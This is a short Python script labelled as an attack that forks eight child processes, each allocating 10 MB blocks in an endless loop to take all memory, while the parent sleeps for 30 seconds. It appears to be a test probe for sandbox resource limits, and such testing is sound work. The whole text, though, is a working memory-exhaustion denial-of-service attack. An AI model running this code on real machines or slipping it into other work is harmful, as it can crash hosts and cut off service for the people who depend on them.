# Takes all memory, in many processes.
# %% attack
import os
for _ in range(8):
    if os.fork() == 0:
        taken = []
        while True:
            taken.append(bytearray(10 << 20))
import time
time.sleep(30)
